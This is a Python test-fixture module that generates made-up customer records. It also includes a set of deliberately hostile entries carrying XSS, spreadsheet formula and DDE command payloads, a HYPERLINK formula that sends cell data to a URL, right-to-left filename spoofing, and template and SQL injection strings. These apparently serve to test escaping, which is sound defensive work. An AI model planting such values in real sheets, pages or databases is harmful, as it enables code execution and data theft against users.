"""Made-up customers, and the few whose names, notes and tags are hostile to spreadsheets and pages."""

import random
from typing import NamedTuple

FIRST = (
    "Ada",
    "Bruno",
    "Chloé",
    "Dilan",
    "Elif",
    "Femke",
    "Giulia",
    "Hugo",
    "Ines",
    "Jonas",
    "Kaja",
    "Lars",
    "Mina",
)
LAST = (
    "Albers",
    "Bianchi",
    "Çelik",
    "Dubois",
    "Eriksen",
    "Fischer",
    "García",
    "Hansen",
    "Ivanova",
    "Jansen",
    "Kowalska",
)
LOCALES = ("de", "de", "de", "de", "en", "en", "fr", "nl", "it", "pl", "ja", "ar")


class Person(NamedTuple):
    """Who ordered. `title` replaces the title of the first order line where it is not None."""

    name: str
    email: str
    locale: str
    note: str | None = None
    tags: tuple[str, ...] = ()
    title: str | None = None


HOSTILE = (
    Person(
        "<script>alert(1)</script>",
        "script@example.com",
        "en",
        "<img src=x onerror=alert(2)>",
        ("<b>vip</b>",),
    ),
    Person(
        "=1+1",
        "formula@example.com",
        "en",
        '=HYPERLINK("http://example.com/?"&A1,"click")',
        ("=cmd|' /C calc'!A0",),
    ),
    Person(
        "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd",
        "rtl@example.com",
        "ar",
        "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645",
        ("\u202etxt.exe",),
    ),
    Person("👩‍👩‍👧 Zoë 🧵", "emoji@example.com", "de", "Danke! 🎁🎁🎁", ("🔥",), "Lantern 🏮 „Größe L“"),
    Person("@SUM(A1:A2)", "at@example.com", "fr", "-2+3+cmd|' /C calc'!A0", ("+1",), "=1+1"),
    Person(
        "Line\nBreak",
        "break@example.com",
        "it",
        'one,two;three\t"four"\r\nfive',
        ("a;b",),
        "</td></tr><h1>hi",
    ),
    Person("{{ 7*7 }} {% raw %}", "template@example.com", "nl", "${7*7} #{7*7}", ("{{tag}}",)),
    Person(
        'O\'Hara; drop table "order"; --', "sql@example.com", "en", "' or '1'='1", ("null", "NaN"), "x" * 300
    ),
)


def make_person(rng: random.Random, number: int) -> Person:
    """An ordinary customer; the address is of a domain that never receives mail."""
    first, last = rng.choice(FIRST), rng.choice(LAST)
    tags = ("newsletter",) if rng.random() < 0.1 else ("wholesale",) if rng.random() < 0.03 else ()
    note = "Please leave with the neighbour." if rng.random() < 0.03 else None
    return Person(f"{first} {last}", f"customer{number}@example.com", rng.choice(LOCALES), note, tags)
